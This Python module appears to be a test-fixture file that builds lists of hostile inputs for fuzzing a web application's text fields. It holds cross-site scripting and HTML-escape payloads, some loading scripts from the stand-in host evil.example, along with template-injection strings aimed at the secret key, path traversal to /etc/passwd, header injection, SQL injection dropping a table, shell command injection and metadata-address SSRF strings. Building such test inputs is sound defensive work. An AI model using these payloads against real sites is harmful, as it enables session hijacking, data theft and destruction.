"""Texts that people could write to run something in others' browsers, or to break a page.

`MARKUP` is made of every way out of the places a text can stand in, and every way to run something
or to take a page over from there. `NAUGHTY` hurts by what it looks like, or is read as something
else than text somewhere on its way.
"""

from __future__ import annotations

import itertools
from typing import Final

RUN: Final = "window.hacked=1,alert(1)"
# Out of text, attributes in either quotation marks or none, and what parsers read to its end.
_OUT: Final = (
    "",
    '">',
    "'>",
    " x=1>",
    "</title>",
    "</textarea>",
    "</option></select>",
    "</script>",
    "</style>",
    "</noscript>",
    "</template>",
    "-->",
    "]]>",
    "</p></figcaption></figure></a>",
    "</main></body></html>",
    "{% endblock %}",
    "{# ",
)
_THEN: Final = (
    f"<script>{RUN}</script>",
    f"<ScRiPt src=data:text/javascript,{RUN}></sCrIpT>",
    "<script type=module src=//evil.example/x.js></script>",
    f"<img src=x onerror={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><script xlink:href=data:,{RUN} /></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<math><mi xlink:href='javascript:{RUN}'>x</mi></math>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "<iframe src=//evil.example></iframe>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<a href='javascript:{RUN}' autofocus>x</a>",
    f"<form action='javascript:{RUN}'><button autofocus>x</button></form>",
    f"<object data='data:text/html,<script>{RUN}</script>'></object>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none!important}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style='position:fixed;inset:0;background:red'>x</div>",
    "<div hx-get=/sign-out/ hx-trigger=load>x</div>",
    f"<div hx-on::load='{RUN}' hx-on:click='{RUN}'>x</div>",
    "<div hx-swap-oob=true id=content>gone</div>",
    "<div ws-connect=//evil.example data-refetch data-closed=1>x</div>",
    f"<div hx-vals='js:{{x:{RUN}}}' hx-headers='{{\"X\": \"y\"}}'>x</div>",
    "<p id=announcer hx-swap-oob=innerHTML>gone</p>",
    "<!--<script>",
    "<plaintext>",
    "<table><tr><td>",
)
# Inside a value that is one already, in a script, or in a template.
_WITHIN: Final = (
    f'" onmouseover="{RUN}" autofocus onfocus="{RUN}',
    f"' onmouseover='{RUN}' autofocus onfocus='{RUN}",
    f"x onmouseover={RUN} autofocus onfocus={RUN}",
    f'";{RUN};//',
    f"';{RUN};//",
    f"`${{{RUN}}}`",
    f'\\";{RUN};//',
    f"\u2028{RUN}\u2029",
    f"javascript:{RUN}",
    f"JaVa\tScRiPt:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "{{ settings.SECRET_KEY }}{{ request.session.items }}",
    "{% load static %}{% include 'base.html' %}{% debug %}",
    "{{constructor.constructor('alert(1)')()}}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "＜script＞alert(1)＜/script＞",
    "<\x0cscript\x0b>alert(1)</script>",
    f"<a\u00a0href=javascript:{RUN}>x</a>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
)
MARKUP: Final = (*_WITHIN, *(out + then for out, then in itertools.product(_OUT, _THEN)))
# For the shortest field, a name of 32 characters.
SHORT: Final = (
    "<script>alert(1)</script>",
    '"><svg/onload=alert(1)>',
    "'><img src onerror=alert(1)>",
    "' autofocus onfocus=alert(1)//",
    "</title><svg/onload=alert(1)>",
    "<div hx-get=/ hx-trigger=load>x",
    "javascript:alert(1)",
    "{% include 'base.html' %}",
    "<base href=//evil.example>",
    "<plaintext>",
)
NAUGHTY: Final = (
    "W" * 2000,
    "i" * 2000,
    "﷽" * 300,
    "𒐫" * 200,
    "ﷺ" * 300,
    "m\u0300\u0316\u0327" * 300,
    "e" + "\u0301" * 600,
    "👩🏽‍❤️‍💋‍👩🏻" * 40,
    "🏴󠁧󠁢󠁥󠁮󠁧󠁿" * 60,
    "a\u00a0b" * 600,  # nowhere to break
    "a\u2060b" * 600,
    "\u200b\u200c\u200d\ufeff" * 200 + "x",
    "שלום עולם " * 60,
    "مرحبا بالعالم " * 60,
    "\u202etxet siht fo lla nrut",
    "\u2067\u2066\u2068 isolated and never let go",
    "縦書きの長い文章" * 100,
    "ไม่มีช่องว่างระหว่างคำในภาษาไทย" * 40,
    "ＦＵＬＬＷＩＤＴＨ" * 80,
    "line\nafter\nline\n" * 60,
    "tab\tafter\ttab" * 60,
    "-" * 1000 + "/" * 1000,
    "../../../../etc/passwd",
    "C:\\con\\con",
    "%00%0d%0aSet-Cookie:%20x=1",
    "\r\nLocation: //evil.example",
    "null undefined NaN true -1 1e999 0x0 0b1",
    "' OR '1'='1'; DROP TABLE curation_member; --",
    "$(reboot) `reboot` | reboot ; reboot &",
    "http://169.254.169.254/ file:///etc/passwd",
    "\u0000nul\u0008back\u007fdel\u0085next",
    "\ufffe\uffff\U0010ffff",
    "İIıi ß ſ ﬁ Ǆ",
    "0xdEaD… vitalik.eth",
)


def fitting(texts: tuple[str, ...], longest: int) -> list[str]:
    """Those texts, whole or cut, that a field of some length can hold and a database can store."""
    return [text.replace("\0", "")[:longest] for text in texts]
